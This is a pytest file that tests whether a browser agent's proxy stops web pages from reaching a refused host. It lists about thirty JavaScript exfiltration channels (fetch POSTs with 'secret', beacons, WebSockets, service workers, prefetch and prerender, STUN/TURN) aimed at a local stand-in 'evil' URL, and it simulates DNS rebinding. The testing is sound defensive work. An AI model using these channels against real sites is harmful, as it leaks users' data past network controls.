"""What a page can have requested out of its own documents' sight, in a real browser.

The page's site is ``127.0.0.1``, which is granted; the other one, at another port, is not. Each
way is first tried in a browser without the proxy, where it has to arrive.
"""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from agent_e.browser import BrowserSession, SharedBrowser
from agent_e.browser.pdf import PdfDocuments
from agent_e.config import BrowserSettings
from agent_e.errors import ActionDenied, NavigationFailed
from agent_e.safety import UrlCheck, granted_place, name_lookup
from agent_e.safety.url_policy import UrlPolicy

from .conftest import Site

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

Until = Callable[..., Awaitable[None]]


def within(site: Site) -> UrlCheck:
    place = granted_place(site.base)
    assert place is not None
    return UrlCheck(UrlPolicy(granted=frozenset({place})), resolve=lambda host: [])


class Other(Site):
    """The site that may not be reached; ``requests`` holds connections and datagrams too."""

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.requests.append("connection")
        await super().handle(reader, writer)


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self, other: Other) -> None:
        self._other = other

    def datagram_received(self, data: bytes, addr: Any) -> None:
        self._other.requests.append("datagram")


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def other() -> AsyncIterator[Other]:
    other = Other()
    loop = asyncio.get_running_loop()
    server = await asyncio.start_server(other.handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    here = ("127.0.0.1", port)
    datagrams, _ = await loop.create_datagram_endpoint(lambda: Datagrams(other), local_addr=here)
    other.base = f"http://127.0.0.1:{port}"
    other.page("/there", "<title>there</title>")
    yield other
    datagrams.close()
    server.close()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def sessions(
    server: Site, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[dict[str, BrowserSession]]:
    """One session without the proxy, one with it; both guard documents."""
    folder = tmp_path_factory.mktemp("none")
    async with AsyncExitStack() as stack:
        opened = {}
        for name, proxy in (("free", False), ("proxied", True)):
            settings = BrowserSettings(proxy=proxy, navigation_timeout_s=20, action_timeout_s=20)
            opened[name] = await stack.enter_async_context(
                BrowserSession.open(settings, downloads_dir=folder, on_event=lambda *_, **__: None)
            )
            await opened[name].restrict_urls(within(server))
        yield opened


def speculation(kind: str, url: str) -> str:
    rules = json.dumps({kind: [{"source": "list", "urls": [url], "eagerness": "immediate"}]})
    return (
        "const s = document.createElement('script'); s.type = 'speculationrules';"
        f"s.textContent = {json.dumps(rules)}; document.head.append(s)"
    )


def link(rel: str) -> str:
    return f"const l = document.createElement('link'); l.rel = '{rel}'; l.href = 'B'; \
document.head.append(l)"


def worker(script: str) -> str:
    return f"new Worker(URL.createObjectURL(new Blob([{json.dumps(script)}])))"


FETCH = "fetch('B', {mode: 'no-cors'}).catch(() => 0)"
# Not in charge of the pages here: what such a worker serves is not prefetched.
SERVICE_WORKER = (
    "navigator.serviceWorker.register('/sw.js', {scope: '/apart/'}).then(async r => {"
    "while (!r.active) await new Promise(done => setTimeout(done, 20)); return r; })"
)
PEER = (
    "const p = new RTCPeerConnection({iceServers: [SERVER]}); p.createDataChannel('x');"
    "p.createOffer().then(o => p.setLocalDescription(o))"
)

CHANNELS = {
    "fetch": FETCH,
    "POST": "fetch('B', {mode: 'no-cors', method: 'POST', body: 'secret'}).catch(() => 0)",
    "picture": "new Image().src = 'B'",
    "script": "const s = document.createElement('script'); s.src = 'B'; document.head.append(s)",
    "style": "document.body.style.background = \"url('B')\"",
    "font": "new FontFace('x', \"url('B')\").load().catch(() => 0)",
    "video": "const v = document.createElement('video'); v.src = 'B'; document.body.append(v)",
    "beacon": "navigator.sendBeacon('B', 'secret')",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'B'; "
    "document.body.append(a); a.click()",
    "event source": "new EventSource('B')",
    "socket": "new WebSocket('B'.replace('http', 'ws'))",
    "worker": worker(FETCH),
    "socket of a worker": worker("new WebSocket('B'.replace('http', 'ws'))"),
    "service worker": f"{SERVICE_WORKER}.then(r => r.active.postMessage('B'))",
    "report of a policy": "new Image().src = 'http://example.org/'",
    "redirect": "fetch('/leads', {mode: 'no-cors'}).catch(() => 0)",
    "prefetch": speculation("prefetch", "B"),
    "prerender": speculation("prerender", "B"),
    "prefetch that is sent on": speculation("prefetch", "/leads"),
    "prerender that is sent on": speculation("prerender", "/leads"),
    "link rel=prefetch": link("prefetch"),
    "link rel=modulepreload": link("modulepreload"),
    "payment": "new PaymentRequest([{supportedMethods: 'B'}], {total: {label: 'x', amount: "
    "{currency: 'EUR', value: '1'}}}).canMakePayment()",
    "background fetch": f"{SERVICE_WORKER}.then(r => r.backgroundFetch.fetch('x', ['B']))",
    "identity": "navigator.credentials.get({identity: {providers: "
    "[{configURL: 'B', clientId: '1'}]}})",
    "STUN": PEER.replace("SERVER", "{urls: 'stun:H'}"),
    "TURN": PEER.replace("SERVER", "{urls: 'turn:H', username: 'x', credential: 'x'}"),
    "TURN over TCP": PEER.replace(
        "SERVER", "{urls: 'turn:H?transport=tcp', username: 'x', credential: 'x'}"
    ),
}  # fmt: skip
QUICK = {"fetch", "socket", "prefetch", "prerender that is sent on", "STUN"}


class Trial:
    """A page at which the ways are tried."""

    def __init__(self, site: Site, other: Other) -> None:
        self.site, self.other = site, other
        self.evil = f"{other.base.replace('127.0.0.1', 'localhost')}/there"
        site.page("/leads", status="302 Found", location=self.evil)
        site.page("/good", "<title>good</title><script>fetch('/ran')</script>")
        script = "self.onmessage = e => fetch(e.data, {mode: 'no-cors'}); self.onfetch = () => {}"
        site.page("/sw.js", script, content_type="text/javascript")

    async def run(self, session: BrowserSession, script: str, policy: str = "") -> None:
        headers: dict[str, Any] = {"content_security_policy": policy} if policy else {}
        self.site.page("/start", "<title>start</title>hello", **headers)
        await session.goto(f"{self.site.base}/start")
        self.other.requests.clear()
        host = self.other.base.removeprefix("http://")
        script = script.replace("'B'", f"'{self.evil}'").replace('"B"', f'"{self.evil}"')
        script = script.replace('\\"B\\"', f'\\"{self.evil}\\"').replace(":H", f":{host}")
        # It may fail at once where there is no such thing.
        await session.active.page.evaluate(
            f"() => {{ try {{ {script} }} catch (error) {{ document.title = String(error) }} }}"
        )


@pytest.fixture
def trial(site: Site, other: Other) -> Trial:
    return Trial(site, other)


@pytest.mark.parametrize(
    "channel",
    [pytest.param(each, marks=[] if each in QUICK else [pytest.mark.slow]) for each in CHANNELS],
)
async def test_nothing_reaches_what_is_refused(
    trial: Trial, sessions: dict[str, BrowserSession], until: Until, channel: str
) -> None:
    policy = f"img-src 'none'; report-uri {trial.evil}" if "policy" in channel else ""
    await trial.run(sessions["free"], CHANNELS[channel], policy)
    loop = asyncio.get_running_loop()
    start = loop.time()
    await until(lambda: trial.other.requests, timeout_s=20)
    took = loop.time() - start
    await sessions["free"].goto("about:blank")
    await trial.run(sessions["proxied"], CHANNELS[channel], policy)
    await asyncio.sleep(2 * took + 0.5)
    assert trial.other.requests == []


@pytest.mark.parametrize(
    "script",
    [
        speculation("prefetch", "/good"),
        pytest.param(speculation("prerender", "/good"), marks=pytest.mark.slow),
        pytest.param(
            f"{SERVICE_WORKER}.then(r => r.backgroundFetch.fetch('y', ['/good']))",
            marks=pytest.mark.slow,
        ),
    ],
    ids=["prefetch", "prerender", "background fetch"],
)
async def test_nothing_is_loaded_out_of_sight_where_it_could_be_reached(
    trial: Trial, sessions: dict[str, BrowserSession], until: Until, script: str
) -> None:
    requests = trial.site.requests
    await trial.run(sessions["free"], script)
    await until(lambda: "GET /good" in requests, timeout_s=20)
    await sessions["free"].goto("about:blank")
    requests.clear()
    await trial.run(sessions["proxied"], script)
    await asyncio.sleep(1.5)
    assert "GET /good" not in requests


async def test_a_page_is_opened_as_ever_after_a_rule_to_prefetch_it(
    trial: Trial, sessions: dict[str, BrowserSession]
) -> None:
    session = sessions["proxied"]
    await trial.run(session, speculation("prefetch", "/good"))
    assert (await session.goto(f"{trial.site.base}/good")).title == "good"


async def test_the_browser_looks_up_no_name_itself(
    trial: Trial, sessions: dict[str, BrowserSession], until: Until
) -> None:
    session, asked = sessions["proxied"], []

    def resolve(host: str) -> list[str]:
        asked.append(host)
        return []

    place = granted_place(trial.site.base)
    assert place is not None
    await session.restrict_urls(UrlCheck(UrlPolicy(granted=frozenset({place})), resolve=resolve))
    try:
        # This machine's own name server is not asked: it would know this one.
        script = "fetch('http://ip6-localhost/', {mode: 'no-cors'}).catch(() => 0)"
        await trial.run(session, script)
        await until(lambda: "ip6-localhost" in asked)
        with pytest.raises(NavigationFailed, match="no address is known for nowhere.example"):
            await session.goto("http://nowhere.example/")
    finally:
        await session.restrict_urls(within(trial.site))


async def test_what_a_fetched_file_comes_from_is_what_was_checked(
    trial: Trial,
    sessions: dict[str, BrowserSession],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """As an attacker's name server has it: public when it is checked, this machine's after that."""
    session, real = sessions["proxied"], socket.getaddrinfo

    def private(host: Any, *more: Any, **options: Any) -> Any:
        name = "127.0.0.1" if host in ("rebound.example.org", b"rebound.example.org") else host
        return real(name, *more, **options)

    monkeypatch.setattr(socket, "getaddrinfo", private)
    monkeypatch.setattr(name_lookup, "_KEPT_S", 0)
    answers = iter([["93.184.216.34"], ["127.0.0.1"]] * 2)
    check = UrlCheck(UrlPolicy(), resolve=lambda host: next(answers))
    address = f"{trial.other.base.replace('127.0.0.1', 'rebound.example.org')}/there"
    for name, reached in (("free", True), ("proxied", False)):
        session = sessions[name]
        await session.goto("about:blank")
        await session.restrict_urls(check)
        trial.other.requests.clear()
        try:
            with pytest.raises((NavigationFailed, ActionDenied)):
                await PdfDocuments(session, budget_characters=2000).read_pdf(address)
        finally:
            await session.restrict_urls(within(trial.site))
        assert bool(trial.other.requests) is reached


@pytest.mark.slow
async def test_a_profile_of_the_persons_own_has_a_proxy_too(trial: Trial, tmp_path: Path) -> None:
    settings = BrowserSettings(user_data_dir=tmp_path / "profile", navigation_timeout_s=20)
    async with BrowserSession.open(
        settings, downloads_dir=tmp_path, on_event=lambda *_, **__: None
    ) as session:
        await session.restrict_urls(within(trial.site))
        for channel in ("fetch", "socket", "prefetch", "prerender that is sent on"):
            await trial.run(session, CHANNELS[channel])
            await asyncio.sleep(1)
            assert trial.other.requests == []
        assert (await session.goto(f"{trial.site.base}/good")).title == "good"


async def test_sessions_of_one_browser_have_proxies_of_their_own(
    trial: Trial, tmp_path: Path, until: Until
) -> None:
    async with SharedBrowser.start(BrowserSettings()) as shared, AsyncExitStack() as stack:
        first, second = [
            await stack.enter_async_context(
                BrowserSession.open(
                    BrowserSettings(),
                    downloads_dir=tmp_path,
                    on_event=lambda *_, **__: None,
                    shared=shared,
                )
            )
            for _ in range(2)
        ]
        await first.restrict_urls(within(trial.site))
        place = frozenset(filter(None, map(granted_place, (trial.site.base, trial.evil))))
        await second.restrict_urls(UrlCheck(UrlPolicy(granted=place), resolve=lambda host: []))
        await trial.run(second, FETCH)
        await asyncio.sleep(1)
        # Its name is allowed, and known to nobody.
        assert trial.other.requests == []
        await second.restrict_urls(UrlCheck(UrlPolicy(granted=place), resolve=None))
        await trial.run(second, FETCH)
        await until(lambda: "GET /there" in trial.other.requests)
        await trial.run(first, FETCH)
        await asyncio.sleep(1)
        assert trial.other.requests == []


async def test_refused_connections_are_journaled(
    trial: Trial, tmp_path: Path, until: Until
) -> None:
    told: list[dict[str, Any]] = []

    def on_event(what: str, **fields: Any) -> None:
        if what == "blocked":
            told.append(fields)

    settings = BrowserSettings(navigation_timeout_s=20)
    async with BrowserSession.open(settings, downloads_dir=tmp_path, on_event=on_event) as session:
        await session.restrict_urls(within(trial.site))
        await trial.run(session, "for (let n = 0; n < 30; n++) fetch('B').catch(() => 0)")
        await until(lambda: told)
    place = trial.evil.removeprefix("http:").removesuffix("/there")
    assert (told[0]["url"], told[0]["where"], told[0]["rule"]) == (place, "connection", "private")
    assert "its address is of this machine" in told[0]["sentence"]
    assert [each["count"] for each in told] in ([1], [1, 10])
